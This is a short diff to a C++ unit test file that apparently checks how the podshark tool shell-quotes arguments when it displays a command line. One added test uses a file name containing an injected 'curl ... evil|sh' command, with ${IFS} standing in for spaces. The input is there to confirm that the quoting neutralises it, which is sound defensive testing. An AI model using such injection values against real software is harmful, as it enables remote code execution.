@@ -111,7 +111,12 @@ TEST(Commands, are_words_and_never_a_shells) {
 
 TEST(Commands, are_shown_on_one_line) {
   EXPECT_EQ(shown({"/bin/podshark", "annotate", "/a b/c", "-o", "x\ny", ""}),
-            "$ /bin/podshark annotate '/a b/c' -o x y ''");
+            "$ /bin/podshark annotate '/a b/c' -o 'x y' ''");
+}
+
+TEST(Commands, are_quoted_for_who_copies_them) {
+  EXPECT_EQ(shown({"p", "/a;curl${IFS}evil|sh;.pcap", "it's", "ssh://a@b:22/c_d"}),
+            "$ p '/a;curl${IFS}evil|sh;.pcap' 'it'\\''s' ssh://a@b:22/c_d");
 }
 
 TEST(Commands, endings_are_told) {
